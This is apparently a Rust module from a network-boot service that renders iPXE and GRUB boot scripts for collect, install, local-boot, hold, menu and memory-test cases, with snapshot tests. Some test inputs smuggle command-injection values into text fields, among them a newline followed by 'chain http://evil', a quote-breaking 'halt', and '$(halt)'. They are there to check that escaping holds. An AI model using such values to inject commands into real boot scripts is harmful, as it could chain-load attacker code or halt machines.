use std::sync::LazyLock;

use minijinja::{Environment, Error, UndefinedBehavior, Value, context, syntax::SyntaxConfig};

use muster_facts::MacAddr;

use super::boot_text::{grub_file, grub_text, grub_words, ipxe_text};

/// The loader that reads a script, and so its language.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ScriptLanguage {
    /// iPXE's (<https://ipxe.org/scripting>).
    #[default]
    Ipxe,
    /// GRUB's (<https://www.gnu.org/software/grub/manual/grub/grub.html#Shell_002dlike-scripting>).
    Grub,
}

/// One line of the menu at a machine's console.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MenuItem {
    /// The key that chooses it.
    pub key: char,
    /// The word by which the loader asks for it.
    pub choice: &'static str,
    /// What the person reads.
    pub text: String,
}

/// What a loader is told to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootScript<'a> {
    /// Load the collection image and report.
    Collect {
        /// `http://address:port` of the boot listener, as this machine reaches it.
        base: &'a str,
        /// The boot token: in the script and nowhere else.
        token: &'a str,
        /// The interface that boots.
        mac: MacAddr,
        /// Where to ask again when loading fails: a new script with a new token.
        again: &'a str,
        /// Further kernel options from the settings.
        kernel_options: &'a str,
    },
    /// Start an installer.
    Install {
        /// What is installed, for the person at the screen.
        title: &'a str,
        /// Where the kernel is.
        kernel: &'a str,
        /// Where its initrds are.
        initrds: &'a [String],
        /// The kernel's command line.
        line: &'a str,
        /// Where to ask again when loading fails.
        again: &'a str,
    },
    /// Start the installed system; Muster has nothing to do here.
    Local {
        /// Why, for the person at the screen.
        why: &'a str,
        /// Where the programs are that find the system on a UEFI machine's disks, by `${buildarch}`.
        disk_loaders: &'a [(&'a str, String)],
    },
    /// Nothing can be done now: say so, wait, and ask again.
    Hold {
        /// Where to ask again: this machine's own script address.
        again: &'a str,
        /// Why, for the person at the screen.
        why: &'a str,
        /// What to do about it.
        advice: &'a str,
    },
    /// Let the person at the console choose, for a while.
    Menu {
        /// What machine this is.
        title: &'a str,
        /// The choices; the first one is taken when nobody chooses, and is named `default`.
        items: &'a [MenuItem],
        /// How long is waited.
        seconds: u64,
        /// Where to ask with what was chosen.
        again: &'a str,
    },
    /// Test the memory.
    MemoryTest {
        /// Where the program for BIOS is.
        bios: &'a str,
        /// Where the program for UEFI is.
        uefi: &'a str,
        /// Where to ask again when loading fails.
        again: &'a str,
    },
}

static TEMPLATES: LazyLock<Environment<'static>> = LazyLock::new(|| {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    if let Ok(syntax) = SyntaxConfig::builder().keep_trailing_newline(true).build() {
        env.set_syntax(syntax);
    }
    env.add_filter("ipxe", |text: &str| ipxe_text(text));
    env.add_filter("grub", |text: &str| grub_text(text));
    env.add_filter("grub_file", |url: &str| grub_file(url));
    env.add_filter("grub_words", |line: &str| grub_words(line));
    env
});

macro_rules! template {
    ($name:literal) => {
        ($name, include_str!(concat!("../../templates/", $name)))
    };
}

/// Finds the system on a disk; the program that iPXE starts for it holds the same.
const DISK: &str = include_str!("../../templates/boot/disk.grub");

/// The script as its loader reads it: ASCII, one command a line.
///
/// # Errors
/// When a shipped template does not render: a fault of the build, told and never sent to a machine; or when GRUB is to
/// fetch from an address that is not plain HTTP.
pub fn render_boot_script(script: &BootScript<'_>, language: ScriptLanguage) -> Result<String, Error> {
    let (ipxe, grub, values) = match *script {
        BootScript::Collect {
            base,
            token,
            mac,
            again,
            kernel_options,
        } => {
            let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
            (
                template!("boot/collect.ipxe"),
                template!("boot/collect.grub"),
                context! {
                    kernel => format!("{base}/boot/image/vmlinuz"),
                    initrd => format!("{base}/boot/image/initrd"),
                    line => format!("muster.server={base} muster.token={token} BOOTIF={bootif} panic=60 {kernel_options}"),
                    base, token, again, kernel_options, bootif,
                },
            )
        }
        BootScript::Install {
            title,
            kernel,
            initrds,
            line,
            again,
        } => {
            let names: Vec<String> = (0..initrds.len()).map(|number| format!("initrd{number}")).collect();
            (
                template!("boot/install.ipxe"),
                template!("boot/install.grub"),
                context! { title, kernel, initrds => initrds.to_vec(), names, line, again },
            )
        }
        BootScript::Local { why, disk_loaders } => {
            let disk_loaders: Vec<Vec<String>> = disk_loaders
                .iter()
                .map(|(arch, url)| vec![(*arch).to_owned(), url.clone()])
                .collect();
            (
                template!("boot/local.ipxe"),
                template!("boot/local.grub"),
                context! { why, disk_loaders, search => DISK },
            )
        }
        BootScript::Hold { again, why, advice } => (
            template!("boot/hold.ipxe"),
            template!("boot/hold.grub"),
            context! { again, why, advice },
        ),
        BootScript::Menu {
            title,
            items,
            seconds,
            again,
        } => {
            let items: Vec<Vec<String>> = items
                .iter()
                .map(|item| vec![item.key.to_string(), item.choice.to_owned(), item.text.clone()])
                .collect();
            (
                template!("boot/menu.ipxe"),
                template!("boot/menu.grub"),
                context! { title, items, seconds, again },
            )
        }
        BootScript::MemoryTest { bios, uefi, again } => (
            template!("boot/memtest.ipxe"),
            template!("boot/memtest.grub"),
            context! { bios, uefi, again },
        ),
    };
    render(if language == ScriptLanguage::Grub { grub } else { ipxe }, values)
}

/// What GRUB is given first: it asks for its script at `script`, and again whenever that ends without having booted.
///
/// # Errors
/// As [`render_boot_script`].
pub fn render_grub_start(script: &str) -> Result<String, Error> {
    render(template!("boot/start.grub"), context! { script })
}

fn render((name, text): (&str, &str), values: Value) -> Result<String, Error> {
    TEMPLATES.render_named_str(name, text, values)
}

#[cfg(test)]
mod tests {
    use super::*;

    const AGAIN: &str = "http://10.77.0.1:8081/boot/ipxe?mac=52:54:00:77:00:01";
    const AGAIN_GRUB: &str = "http://10.77.0.1:8081/boot/grub/script?mac=52:54:00:77:00:01";

    fn ipxe(script: &BootScript<'_>) -> String {
        render_boot_script(script, ScriptLanguage::Ipxe).unwrap()
    }

    fn grub(script: &BootScript<'_>) -> String {
        render_boot_script(script, ScriptLanguage::Grub).unwrap()
    }

    #[test]
    fn collect_carries_token_server_and_interface() {
        let script = BootScript::Collect {
            base: "http://10.77.0.1:8081",
            token: "tok_en-1",
            mac: MacAddr([0x52, 0x54, 0, 0x77, 0, 1]),
            again: AGAIN,
            kernel_options: "console=ttyS0",
        };
        insta::assert_snapshot!(ipxe(&script));
        insta::assert_snapshot!("collect_by_grub", grub(&script));
    }

    #[test]
    fn a_reason_cannot_become_a_command() {
        let script = BootScript::Hold {
            again: AGAIN,
            why: "no image\nchain http://evil ${net0/ip} || reboot",
            advice: "cargo xtask image",
        };
        insta::assert_snapshot!(ipxe(&script));
        let script = BootScript::Hold {
            again: AGAIN_GRUB,
            why: "no image\n'; halt; echo '${prefix}",
            advice: "cargo xtask image",
        };
        insta::assert_snapshot!("a_reason_by_grub", grub(&script));
    }

    #[test]
    fn local_boot_knows_both_firmwares() {
        let script = BootScript::Local {
            why: "settings say boot.unknown = local",
            disk_loaders: &[("x86_64", "http://10.77.0.1:8081/boot/loader/local-x64.efi".to_owned())],
        };
        insta::assert_snapshot!(ipxe(&script));
        let text = grub(&script);
        assert!(text.starts_with("echo 'Muster: starting from the local disk (settings say boot.unknown = local)'\n"));
        assert!(
            text.contains("Microsoft/Boot/bootmgfw") && text.ends_with("\nexit 1\n"),
            "{text}"
        );
    }

    #[test]
    fn an_installer_s_line_stays_one_line_of_words() {
        let script = BootScript::Install {
            title: "ubuntu-24.04",
            kernel: "http://10.77.0.1:8081/boot/tree/ubuntu/casper/vmlinuz",
            initrds: &["http://10.77.0.1:8081/boot/tree/ubuntu/casper/initrd".to_owned()],
            line: "autoinstall ds=nocloud;s=http://10.77.0.1:8081/boot/answer/T/ note=\"two words\"",
            again: AGAIN_GRUB,
        };
        insta::assert_snapshot!("install_by_grub", grub(&script));
        let elsewhere = BootScript::Install {
            title: "x",
            kernel: "https://mirror/vmlinuz",
            initrds: &[],
            line: "",
            again: AGAIN_GRUB,
        };
        assert!(render_boot_script(&elsewhere, ScriptLanguage::Grub).is_err());
    }

    #[test]
    fn a_menu_goes_on_by_itself() {
        let items = [
            MenuItem {
                key: 'd',
                choice: "default",
                text: "Go on: collect | $(halt)".to_owned(),
            },
            MenuItem {
                key: 'l',
                choice: "local",
                text: "Start the system on the disk".to_owned(),
            },
        ];
        let menu = |again| BootScript::Menu {
            title: "52:54:00:77:00:01",
            items: &items,
            seconds: 10,
            again,
        };
        insta::assert_snapshot!("menu_by_ipxe", ipxe(&menu(AGAIN)));
        insta::assert_snapshot!("menu_by_grub", grub(&menu(AGAIN_GRUB)));
    }

    #[test]
    fn the_memory_test_has_a_program_for_each_firmware() {
        let script = BootScript::MemoryTest {
            bios: "http://10.77.0.1:8081/boot/loader/memtest-x64.bin",
            uefi: "http://10.77.0.1:8081/boot/loader/memtest-x64.efi",
            again: AGAIN,
        };
        insta::assert_snapshot!("memory_test_by_ipxe", ipxe(&script));
        assert!(grub(&script).contains("chainloader '(http,10.77.0.1:8081)/boot/loader/memtest-x64.efi'"));
    }

    #[test]
    fn grub_begins_by_asking() {
        insta::assert_snapshot!("grub_begins", render_grub_start(AGAIN_GRUB).unwrap());
    }
}
